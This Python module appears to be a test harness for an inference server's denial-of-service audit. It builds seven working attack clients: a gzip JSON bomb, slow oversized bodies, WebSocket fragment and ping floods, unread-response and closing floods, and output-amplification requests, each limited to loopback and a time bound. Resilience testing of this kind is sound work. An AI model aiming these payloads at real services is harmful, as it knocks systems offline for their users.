"""Clients that mean harm, each in a process of its own; bounded in time, on loopback only.

Each is one of the findings of the server's audit: what it sends costs the client almost nothing.
"""

from __future__ import annotations

import gzip
import socket
import time
from contextlib import contextmanager, suppress
from http.client import HTTPConnection, HTTPException
from multiprocessing import get_context
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from multiprocessing.synchronize import Event

#: The model with large answers, which is served beside the one that is attacked.
LARGE = "large"
_UPGRADE = (
    "GET /v2/models/{name}/stream HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)


def json_bomb(port: int, name: str, until: float) -> None:
    """64 kB of gzip that unpack to empty lists, 15 MB and 66 MB of them in turn."""
    bombs = [gzip.compress(b"[" + b"[]," * count + b"[]]") for count in (5_000_000, 22_000_000)]
    headers = {"Content-Type": "application/json", "Content-Encoding": "gzip"}
    while time.monotonic() < until:
        for bomb in bombs:
            connection = HTTPConnection("127.0.0.1", port, timeout=30)
            with suppress(OSError, HTTPException):
                connection.request("POST", f"/v2/models/{name}/infer", bomb, headers)
                connection.getresponse().read()
            connection.close()


def announced(port: int, name: str, until: float) -> None:
    """Eight bodies that are announced with 64 MiB and arrive with 100 bytes a second."""
    head = (
        f"POST /v2/models/{name}/infer HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\n"
        f"Content-Length: {64 * 2**20}\r\n\r\n"
    ).encode()
    connections = [socket.create_connection(("127.0.0.1", port), 30) for _ in range(8)]
    for connection in connections:
        connection.sendall(head)
    while time.monotonic() < until:
        for connection in connections:
            with suppress(OSError):
                connection.sendall(bytes(100))
        time.sleep(1)
    for connection in connections:
        connection.close()


def _stream(port: int, name: str, until: float, frames: bytes) -> None:
    while time.monotonic() < until:
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), 5) as connection:
            connection.sendall(_UPGRADE.format(name=name).encode())
            connection.recv(4096)
            while time.monotonic() < until:
                connection.sendall(frames)


def fragments(port: int, name: str, until: float) -> None:
    """One message of fragments of two bytes, which never ends; again and again."""
    _stream(port, name, until, b"\x02\x80\0\0\0\0" + b"\x00\x82\0\0\0\0ab" * 131_072)


def pings(port: int, name: str, until: float) -> None:
    """Pings of a hundred bytes, whose answers are not read."""
    _stream(port, name, until, (b"\x89\xe4\0\0\0\0" + b"a" * 100) * 9900)


def unread_answers(port: int, _name: str, until: float) -> None:
    """A hundred clients of the model with large answers, one each, that read nothing of them; again every second."""
    asked = _large(16_384)
    while time.monotonic() < until:
        connections = []
        for _ in range(100):
            with suppress(OSError):
                connection = socket.create_connection(("127.0.0.1", port), 5)
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                connection.sendall(asked)
                connections.append(connection)
        time.sleep(1)
        for connection in connections:
            connection.close()


def closing_flood(port: int, name: str, until: float) -> None:
    """Eight streams that send requests as fast as they can, read no answer, and are cut after a second."""
    frame = (1).to_bytes(4, "little") + (0).to_bytes(4, "little") + (256).to_bytes(4, "little") + bytes(256)
    message = b"\x82\xfe" + len(frame).to_bytes(2, "big") + b"\0\0\0\0" + frame
    while time.monotonic() < until:
        connections = []
        for _ in range(8):
            with suppress(OSError):
                connection = socket.create_connection(("127.0.0.1", port), 5)
                connection.sendall(_UPGRADE.format(name=name).encode())
                connection.settimeout(0.1)
                connections.append(connection)
        end = time.monotonic() + 1
        while time.monotonic() < end:
            for connection in connections:
                with suppress(OSError):
                    connection.sendall(message * 100)
        for connection in connections:
            connection.close()


def huge_outputs(port: int, _name: str, until: float) -> None:
    """Requests of 1 MB each whose answers would have 1 GiB."""
    asked = _large(1_000_000)
    while time.monotonic() < until:
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), 5) as connection:
            connection.sendall(asked)
            connection.recv(65536)


def _large(size: int) -> bytes:
    """Ask the model whose answers are 1024 times as large as what it is sent."""
    head = f"POST /v2/models/{LARGE}/infer HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\n"
    return f"{head}Content-Length: {size}\r\n\r\n".encode() + bytes(size)


ATTACKS: dict[str, Callable[[int, str, float], None]] = {
    "JSON bomb": json_bomb,
    "announced bodies": announced,
    "tiny fragments": fragments,
    "pings": pings,
    "unread answers": unread_answers,
    "closing flood": closing_flood,
    "huge outputs": huge_outputs,
}


def _attack(kind: str, port: int, name: str, seconds: float, has_begun: Event) -> None:
    has_begun.set()
    ATTACKS[kind](port, name, time.monotonic() + seconds)


@contextmanager
def under_attack(kind: str, port: int, name: str, seconds: float) -> Iterator[None]:
    """Run a block beside an attack that lasts so long; it begins once its process has, which takes seconds."""
    has_begun = get_context("spawn").Event()
    made = get_context("spawn").Process(target=_attack, args=(kind, port, name, seconds, has_begun))
    made.start()
    try:
        if not has_begun.wait(60):
            raise SystemExit(f"the attack `{kind}` did not start within a minute")
        yield
    finally:
        made.join(seconds + 60)
        if made.is_alive():
            made.terminate()
            made.join()
